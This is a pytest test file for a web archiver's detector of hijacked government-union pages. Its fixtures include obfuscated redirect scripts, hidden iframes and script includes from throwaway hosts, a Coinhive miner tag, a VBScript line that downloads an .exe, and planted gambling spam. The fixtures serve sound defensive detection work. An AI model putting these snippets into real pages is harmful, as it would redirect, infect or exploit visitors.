"""Links abroad where no site puts them, owners that are strangers, pages that send readers on."""

import pytest

from archiver.parsers.page import parse
from archiver.records import Page
from tests.parsers.hijacked import HOME, PROSE, hijacked

STRANGERS = "".join(
    f'<a href="http://www.{host}/">{name}</a>'
    for host, name in (("a-b.com", "碧水"), ("c-d.net", "青山"), ("e-f.info", "白云"))
)


def read(html: str) -> Page:
    return parse(html.encode(), url=HOME)


def page(**more: str) -> str:
    return hijacked(**more).decode()


def owned_by(owner: str) -> str:
    named = page(title="缝纫夜校开课-清溪县总工会")
    return named.replace("主办：清溪县总工会", f"版权所有：{owner}")


@pytest.mark.parametrize(
    "link",
    [
        '<a href="http://www.jn5.com/">足球外围</a>',
        '<a href="http://www.a-b.com/">碧水</a>坐满了<a href="http://www.c-d.net/">青山</a>',
    ],
)
def test_links_wedged_into_sentences_are_planted(link: str) -> None:
    html = page().replace("女工坐满了教室", f"女工{link}坐满了教室")
    assert read(html).integrity.status != "clean"


@pytest.mark.parametrize(
    "link",
    [
        '<a href="http://www.a-b.com/">坐满了</a>',  # one, of no trade
        '<a href="/d/">坐满了</a><a href="http://www.gov.cn/">教室</a>',
        '(<a href="http://www.a-b.com/">碧水</a>、<a href="http://www.c-d.net/">青山</a>)',
    ],
)
def test_links_of_an_authors_text_are_not(link: str) -> None:
    assert read(page().replace("坐满了教室", link + "教室")).integrity.status == "clean"


def test_links_to_strangers_behind_the_footer_are_sold() -> None:
    assert read(page(below=f"<div>{STRANGERS}</div>")).integrity.status == "suspect"
    before = page().replace(
        "<div class=footer>", f"<div>友情链接：{STRANGERS}</div><div class=footer>"
    )
    assert read(before).integrity.status == "clean"
    sponsors = STRANGERS.replace("碧水", "清溪农商银行").replace("青山", "青山旅游")
    assert read(page(below=f"<div>{sponsors}</div>")).integrity.status == "clean"
    bodies = STRANGERS.replace(".com/", ".gov.cn/").replace(".net/", ".gov.cn/")
    assert read(page(below=f"<div>{bodies}</div>")).integrity.status == "clean"


@pytest.mark.parametrize(
    "owner", ["www.jn5566.com", "jn55663.com", "飞艇5588开奖", "鲲鹏登岛", "鲲鹏体育"]
)
def test_an_owner_that_is_a_stranger_is_suspect_and_not_stored(owner: str) -> None:
    html = owned_by(owner).replace("两位退休", "两位县体育馆退休")
    found = read(html)
    assert found.integrity.status in ("suspect", "hijacked_chrome")
    assert owner not in (found.site.owner, found.site.organiser)


@pytest.mark.parametrize("owner", ["www.qxgh.gov.cn", "清溪日报", "清溪政协", "清溪职工"])
def test_an_owner_that_is_the_site_or_a_body_is_clean(owner: str) -> None:
    assert read(owned_by(owner)).integrity.status == "clean"


@pytest.mark.parametrize(
    ("code", "status"),
    [
        ("javascript:location='http://www.jn5.com/'", "suspect"),
        ("window.location.href=&quot;http://www.jn5566.com/&quot;;", "hijacked_chrome"),
        ("MM_preloadImages('images/a.gif')", "clean"),
        ("location='/d/'", "clean"),
    ],
)
def test_a_body_may_send_its_readers_away_as_it_loads(code: str, status: str) -> None:
    html = page().replace("<body>", f'<body bgcolor=white onload="{code}">')
    assert read(html).integrity.status == status


def test_a_brand_in_the_place_of_the_bodys_name_is_content() -> None:
    html = page(title="鲲鹏88官网下载-缝纫夜校开课").replace(
        "<h1>缝纫夜校开课", "<h1>鲲鹏88官网下载-缝纫夜校开课"
    )
    html = html.replace("县总工会主席说", "鲲鹏88官网主席说")
    assert read(html).integrity.status == "hijacked_content"


def test_a_line_that_lists_games_for_customers_is_planted_content() -> None:
    games = "<p>鲲鹏集真人娱乐、电子游艺、棋牌捕鱼于一体，为广大会员服务。</p>"
    assert read(page().replace("<p>", games + "<p>", 1)).integrity.status == "hijacked_content"
    lost = "<p>一名学生在网上玩“老虎机”“百家乐”“捕鱼”，输掉了学费。</p>"
    assert read(page().replace("<p>", lost + "<p>", 1)).integrity.status == "clean"


def test_a_row_of_strangers_and_links_to_brands_are_sold() -> None:
    top = page(title="缝纫夜校开课-清溪县总工会")
    top = top.replace("<body>", f"<body><center>{STRANGERS}</center>")
    assert read(top).integrity.status == "suspect"
    novels = "".join(f"<li><a href='http://www.xs5200.cc/{n}'>碧水青山</a></li>" for n in "123")
    html = page().replace("<div class=footer>", f"<ul>{novels}</ul><div class=footer>")
    assert read(html).integrity.status == "suspect"


def test_two_brands_among_friends_are_sold_links() -> None:
    def friends(*names: str) -> str:
        links = (f"<a href='http://www.{n}x.com/'>{name}</a>" for n, name in enumerate(names))
        return page(below=f"<div>友情链接：{' '.join(links)}</div>")

    assert read(friends("清溪网", "亚博体育")).integrity.status == "suspect"
    assert read(friends("清溪网", "亚博体育", "必威体育")).integrity.status == "hijacked_chrome"


def test_a_hidden_menu_of_unions_is_one_of_friends() -> None:
    unions = "".join(
        f"<a href='http://www.{name}gh.com/'>{place}县总工会</a>"
        for name, place in zip("abcdef", "东西南北中外", strict=True)
    )
    assert read(page(below=f"<div style='display:none'>{unions}</div>")).integrity.status == "clean"


@pytest.mark.parametrize(
    "code",
    [
        "var _0xa=['aHR0cHM6Ly93d3cuam41NTY2LnZpcA=='];location.href=atob(_0xa[0]);",
        'var u=["https://","www.","jn","5566",".cc"];top.location=u.join("");',
        "document.onclick=function(){window.open('http://www.jn5566.com/','_blank')}",
        'dl="http://down.jn.com/x.exe":Set d=document.createObject("Adodb.Stream")',
    ],
)
def test_scripts_that_send_readers_away_in_pieces_or_at_a_click_are_found(code: str) -> None:
    assert read(page(head=f"<script>{code}</script>")).integrity.status != "clean"


def test_a_page_for_phones_is_on_no_throwaway_host() -> None:
    code = "<script>if(/Android|iPhone/.test(navigator.userAgent)){{location.href='{}'}}</script>"
    for host, status in (("m.qxgh.com", "clean"), ("m.kk7788.top", "hijacked_chrome")):
        html = page(head=code.format(f"https://{host}/"))
        assert read(html).integrity.status == status


@pytest.mark.parametrize(
    "planted",
    ["<script src='http://tj.d88tj.pw/g.js'></script>", "<iframe width=0 src=http://ab.icu/>"],
)
def test_what_is_loaded_from_a_throwaway_host_is_planted(planted: str) -> None:
    assert read(page(below=planted)).integrity.status == "hijacked_chrome"


def test_a_script_that_digs_for_coins_is_planted() -> None:
    head = "<script src='https://coinhive.com/lib/coinhive.min.js'></script>"
    assert read(page(head=head)).integrity.status == "suspect"


def test_a_brand_beside_a_second_label_of_the_footer_is_found() -> None:
    makers = "技术支持：清溪县信息中心<br>技术支持：大发彩票一触即发"
    html = page().replace("人民路1号", f"人民路1号<br>{makers}")
    assert read(html).integrity.status == "hijacked_chrome"


def test_an_article_for_players_is_planted_content() -> None:
    told = "<p>打开鲲鹏官网注册,填邀请码领体验金,首存送彩金,投注流水一倍即可提款。</p>"
    assert read(page().replace("<p>", told + "<p>", 1)).integrity.status == "hijacked_content"
    news = "<p>民警提醒:打开网站注册、充值、投注后提款不了的,是诈骗。</p>"
    assert read(page().replace("<p>", news + "<p>", 1)).integrity.status == "clean"


def test_a_brand_in_a_contributors_place_is_no_unit() -> None:
    issue = (
        "<html><meta charset=utf-8><title>清溪工会简报2010年第4期</title><div>清溪工会简报<br>"
        "2010年第4期<br>清溪县总工会办公室编<br>2010年5月12日<br>目　录<br>夜校开课<br>茶厂建会<br>"
        f"夜校开课<br>{PROSE}<br>来稿：{{}}<br>茶厂建会<br>{PROSE}<br>来稿：城关镇总工会</div></body></html>"
    )
    poisoned = read(issue.format("鲲鹏飞艇开奖网"))
    assert poisoned.integrity.status == "hijacked_content"
    units = [c.unit for article in poisoned.articles for c in article.contributors]
    assert units == [None, "城关镇总工会"]
    assert read(issue.format("县体彩中心")).integrity.status == "clean"


@pytest.mark.parametrize(
    "text",
    [
        "演员们时时彩排到深夜。演员们时时彩排。",
        "郴(chēn)州、耒(lěi)水、澧(lǐ)县、崀(làng)山怎么读?",
        "新葡萄品种试种成功,新葡萄上市。",
        "They served in Tibet 365 days. After Tibet 365 days they came home.",
    ],
)
def test_words_that_only_look_like_the_trades_are_clean(text: str) -> None:
    html = page().replace("<p>", f"<p>{text}</p><p>", 1)
    assert read(html).integrity.status == "clean"
